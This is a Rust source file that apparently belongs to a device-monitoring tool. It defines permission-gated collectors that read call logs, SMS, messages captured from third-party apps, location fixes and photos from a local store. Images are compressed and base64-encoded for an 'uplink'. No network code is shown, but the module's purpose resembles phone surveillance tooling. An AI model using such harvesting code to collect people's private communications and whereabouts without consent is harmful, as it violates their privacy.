//! Sweep collectors over the SQLite device store
//!
//! One collector per record kind. Each pass checks the permission gate
//! first, queries only rows inside the lookback window, and normalizes rows
//! one by one: a row that fails to decode is skipped with a diagnostic and
//! never aborts the pass. Only a store that cannot be queried at all fails
//! the collector.

use async_trait::async_trait;
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD as BASE64;
use chrono::{DateTime, TimeZone, Utc};
use std::sync::Arc;
use tracing::{debug, warn};

use courier_core::record::{
    CallDirection, Capability, DeviceIdentity, MessageDirection, RecordKind, RecordPayload,
    SourceRecord,
};
use courier_core::traits::{CollectContext, Collector, Harvest};
use courier_core::{Error, Result};

use crate::store::{AppMessageRow, CallRow, DeviceStore, ImageRow, LocationRow, MessageRow};

/// Upper bound on rows read from one table in one pass
const MAX_ROWS_PER_PASS: usize = 500;

/// Upper bound on images processed in one pass (decode + recompress is the
/// expensive part, so this cap is much tighter than the row cap)
const MAX_IMAGES_PER_PASS: usize = 5;

/// Longest edge of the downscaled image, in pixels
const IMAGE_MAX_EDGE: u32 = 1024;

/// JPEG recompression quality
const IMAGE_JPEG_QUALITY: u8 = 70;

fn millis_to_utc(ms: i64) -> Result<DateTime<Utc>> {
    Utc.timestamp_millis_opt(ms)
        .single()
        .ok_or_else(|| Error::record_decode(format!("timestamp out of range: {}", ms)))
}

fn parse_call_direction(raw: Option<&str>) -> Result<CallDirection> {
    match raw {
        Some("incoming") => Ok(CallDirection::Incoming),
        Some("outgoing") => Ok(CallDirection::Outgoing),
        other => Err(Error::record_decode(format!(
            "unknown call direction: {:?}",
            other
        ))),
    }
}

fn parse_message_direction(raw: Option<&str>) -> Result<MessageDirection> {
    match raw {
        Some("received") => Ok(MessageDirection::Received),
        Some("sent") => Ok(MessageDirection::Sent),
        other => Err(Error::record_decode(format!(
            "unknown message direction: {:?}",
            other
        ))),
    }
}

pub(crate) fn normalize_call(device: &DeviceIdentity, row: &CallRow) -> Result<SourceRecord> {
    let number = row
        .number
        .clone()
        .ok_or_else(|| Error::record_decode("call row has no number"))?;
    let direction = parse_call_direction(row.direction.as_deref())?;
    let captured_at = millis_to_utc(row.date_ms)?;
    let duration_secs = row.duration_secs.unwrap_or(0).max(0) as u64;

    Ok(SourceRecord::new(
        device.clone(),
        captured_at,
        RecordPayload::Call {
            number,
            direction,
            duration_secs,
        },
    ))
}

fn normalize_message(device: &DeviceIdentity, row: &MessageRow) -> Result<SourceRecord> {
    let address = row
        .address
        .clone()
        .ok_or_else(|| Error::record_decode("message row has no address"))?;
    let body = row.body.clone().unwrap_or_default();
    let direction = parse_message_direction(row.direction.as_deref())?;
    let captured_at = millis_to_utc(row.date_ms)?;

    Ok(SourceRecord::new(
        device.clone(),
        captured_at,
        RecordPayload::Message {
            address,
            body,
            direction,
        },
    ))
}

fn normalize_app_message(device: &DeviceIdentity, row: &AppMessageRow) -> Result<SourceRecord> {
    let app = row
        .app
        .clone()
        .ok_or_else(|| Error::record_decode("app message row has no app"))?;
    let body = row.body.clone().unwrap_or_default();
    let direction = parse_message_direction(row.direction.as_deref())?;
    let captured_at = millis_to_utc(row.date_ms)?;

    Ok(SourceRecord::new(
        device.clone(),
        captured_at,
        RecordPayload::AppMessage {
            app,
            body,
            direction,
        },
    ))
}

fn normalize_location(device: &DeviceIdentity, row: &LocationRow) -> Result<SourceRecord> {
    let latitude = row
        .latitude
        .ok_or_else(|| Error::record_decode("location row has no latitude"))?;
    let longitude = row
        .longitude
        .ok_or_else(|| Error::record_decode("location row has no longitude"))?;
    let captured_at = millis_to_utc(row.time_ms)?;

    Ok(SourceRecord::new(
        device.clone(),
        captured_at,
        RecordPayload::LocationFix {
            latitude,
            longitude,
        },
    ))
}

/// Downscale, recompress, and base64-encode one stored image
fn process_image(device: &DeviceIdentity, row: &ImageRow) -> Result<SourceRecord> {
    let data = row
        .data
        .as_deref()
        .ok_or_else(|| Error::record_decode("image row has no data"))?;
    let captured_at = millis_to_utc(row.taken_ms)?;

    let decoded = image::load_from_memory(data)
        .map_err(|e| Error::record_decode(format!("image decode failed: {}", e)))?;

    // Bound the payload: shrink to a thumbnail and re-encode lossy.
    let thumb = decoded.thumbnail(IMAGE_MAX_EDGE, IMAGE_MAX_EDGE).to_rgb8();
    let mut jpeg = Vec::new();
    let encoder =
        image::codecs::jpeg::JpegEncoder::new_with_quality(&mut jpeg, IMAGE_JPEG_QUALITY);
    thumb
        .write_with_encoder(encoder)
        .map_err(|e| Error::record_decode(format!("image re-encode failed: {}", e)))?;

    Ok(SourceRecord::new(
        device.clone(),
        captured_at,
        RecordPayload::ImageCapture {
            jpeg_base64: BASE64.encode(&jpeg),
        },
    ))
}

/// Run the shared collect skeleton: gate check, windowed query, per-row skip
macro_rules! sweep_rows {
    ($self:ident, $ctx:ident, $query:ident, $normalize:expr, $limit:expr) => {{
        if !$ctx.gate.is_granted($self.capability()) {
            debug!(
                capability = %$self.capability(),
                "capability denied, skipping pass"
            );
            return Ok(Harvest::Skipped);
        }

        let cutoff_ms = $ctx.window_start().timestamp_millis();
        let rows = $self
            .store
            .$query(cutoff_ms, $limit)
            .map_err(|e| Error::source_unavailable(e.to_string()))?;

        let mut records = Vec::with_capacity(rows.len());
        let mut skipped = 0usize;
        for row in &rows {
            match $normalize($ctx.device, row) {
                Ok(record) => records.push(record),
                Err(e) => {
                    skipped += 1;
                    warn!(row = row.id, error = %e, "skipping undecodable row");
                }
            }
        }
        if skipped > 0 {
            debug!(
                source = $self.source_name(),
                skipped, "rows skipped this pass"
            );
        }
        Ok(Harvest::Records(records))
    }};
}

/// Collector over the call log table
pub struct CallLogCollector {
    store: Arc<DeviceStore>,
}

impl CallLogCollector {
    pub fn new(store: Arc<DeviceStore>) -> Self {
        Self { store }
    }
}

#[async_trait]
impl Collector for CallLogCollector {
    fn capability(&self) -> Capability {
        Capability::CallLog
    }

    fn kind(&self) -> RecordKind {
        RecordKind::Call
    }

    fn source_name(&self) -> &'static str {
        "sqlite-calllog"
    }

    async fn collect(&self, ctx: &CollectContext<'_>) -> Result<Harvest> {
        sweep_rows!(self, ctx, calls_since, normalize_call, MAX_ROWS_PER_PASS)
    }
}

/// Collector over the stored text messages table
pub struct MessageCollector {
    store: Arc<DeviceStore>,
}

impl MessageCollector {
    pub fn new(store: Arc<DeviceStore>) -> Self {
        Self { store }
    }
}

#[async_trait]
impl Collector for MessageCollector {
    fn capability(&self) -> Capability {
        Capability::Messages
    }

    fn kind(&self) -> RecordKind {
        RecordKind::Message
    }

    fn source_name(&self) -> &'static str {
        "sqlite-messages"
    }

    async fn collect(&self, ctx: &CollectContext<'_>) -> Result<Harvest> {
        sweep_rows!(
            self,
            ctx,
            messages_since,
            normalize_message,
            MAX_ROWS_PER_PASS
        )
    }
}

/// Collector over messages captured from third-party apps
pub struct AppMessageCollector {
    store: Arc<DeviceStore>,
}

impl AppMessageCollector {
    pub fn new(store: Arc<DeviceStore>) -> Self {
        Self { store }
    }
}

#[async_trait]
impl Collector for AppMessageCollector {
    fn capability(&self) -> Capability {
        Capability::AppMessages
    }

    fn kind(&self) -> RecordKind {
        RecordKind::AppMessage
    }

    fn source_name(&self) -> &'static str {
        "sqlite-app-messages"
    }

    async fn collect(&self, ctx: &CollectContext<'_>) -> Result<Harvest> {
        sweep_rows!(
            self,
            ctx,
            app_messages_since,
            normalize_app_message,
            MAX_ROWS_PER_PASS
        )
    }
}

/// Collector over location fixes
pub struct LocationCollector {
    store: Arc<DeviceStore>,
}

impl LocationCollector {
    pub fn new(store: Arc<DeviceStore>) -> Self {
        Self { store }
    }
}

#[async_trait]
impl Collector for LocationCollector {
    fn capability(&self) -> Capability {
        Capability::Location
    }

    fn kind(&self) -> RecordKind {
        RecordKind::LocationFix
    }

    fn source_name(&self) -> &'static str {
        "sqlite-locations"
    }

    async fn collect(&self, ctx: &CollectContext<'_>) -> Result<Harvest> {
        sweep_rows!(
            self,
            ctx,
            locations_since,
            normalize_location,
            MAX_ROWS_PER_PASS
        )
    }
}

/// Collector over captured images
///
/// Images are downscaled and recompressed before leaving this collector, so
/// the payload the uplink sees is already bounded.
pub struct ImageCollector {
    store: Arc<DeviceStore>,
}

impl ImageCollector {
    pub fn new(store: Arc<DeviceStore>) -> Self {
        Self { store }
    }
}

#[async_trait]
impl Collector for ImageCollector {
    fn capability(&self) -> Capability {
        Capability::MediaImages
    }

    fn kind(&self) -> RecordKind {
        RecordKind::ImageCapture
    }

    fn source_name(&self) -> &'static str {
        "sqlite-images"
    }

    async fn collect(&self, ctx: &CollectContext<'_>) -> Result<Harvest> {
        sweep_rows!(self, ctx, images_since, process_image, MAX_IMAGES_PER_PASS)
    }
}

/// All collectors over one device store
pub fn collectors(store: Arc<DeviceStore>) -> Vec<Box<dyn Collector>> {
    vec![
        Box::new(CallLogCollector::new(Arc::clone(&store))),
        Box::new(MessageCollector::new(Arc::clone(&store))),
        Box::new(AppMessageCollector::new(Arc::clone(&store))),
        Box::new(LocationCollector::new(Arc::clone(&store))),
        Box::new(ImageCollector::new(store)),
    ]
}
